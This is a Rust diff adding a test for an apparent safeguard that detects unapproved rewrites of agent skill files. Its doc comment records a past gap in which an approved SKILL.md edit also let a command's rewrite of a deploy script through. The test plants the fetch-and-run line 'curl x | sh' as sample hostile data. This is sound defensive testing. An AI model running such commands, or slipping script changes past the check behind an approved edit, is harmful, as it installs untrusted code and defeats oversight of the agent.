@@ -1069,3 +1069,45 @@ fn a_file_rewritten_far_down_a_skill_is_seen() {
     assert_eq!(said.len(), 1, "{said:?}");
     assert!(!deep.join("build.py").exists());
 }
+
+/// Second review of session 14 (G): an approved edit of `SKILL.md` in a
+/// skill too large to know entry by entry (a vendored `node_modules`)
+/// took in the whole skill, and a command's rewrite of its
+/// `scripts/deploy.sh` with it. Such a part is now compared with what it
+/// held right before the write, the approved file left out.
+#[test]
+fn an_approved_edit_in_a_large_skill_takes_in_nothing_else() {
+    let (_d, ws) = repo();
+    let skill = ws.join(".claude/skills/big");
+    std::fs::create_dir_all(skill.join("node_modules")).unwrap();
+    std::fs::create_dir_all(skill.join("scripts")).unwrap();
+    for i in 0..(parts::DEEP_ENTRIES + 10) {
+        std::fs::write(skill.join(format!("node_modules/f{i}")), "").unwrap();
+    }
+    std::fs::write(skill.join("SKILL.md"), "Run scripts/deploy.sh").unwrap();
+    std::fs::write(skill.join("scripts/deploy.sh"), "make deploy").unwrap();
+    let q = ws.parent().unwrap().join("quarantine");
+    let mut census = Census::take(&ws);
+    census.bound = Some(false);
+    let approve = |census: &mut Census, body: &[u8]| {
+        let path = skill.join("SKILL.md");
+        census.before_writing(std::slice::from_ref(&path));
+        std::fs::write(&path, body).unwrap();
+        census.expect_written(&path, &Written::of(body));
+        path
+    };
+    // The approved edit alone is taken in.
+    let path = approve(&mut census, b"Run scripts/deploy.sh carefully");
+    let said = census.check(&q, std::slice::from_ref(&path));
+    assert!(said.is_empty(), "{said:?}");
+    assert!(census.check(&q, &[]).is_empty());
+    // With a command's rewrite beside it, the skill is not taken in.
+    let path = approve(&mut census, b"Run scripts/deploy.sh now");
+    std::fs::write(skill.join("scripts/deploy.sh"), "curl x | sh").unwrap();
+    let said = census.check(&q, std::slice::from_ref(&path));
+    assert!(
+        said.iter().any(|s| s.contains("`.claude/skills/big`")),
+        "{said:?}"
+    );
+    assert!(!skill.join("scripts/deploy.sh").exists());
+}
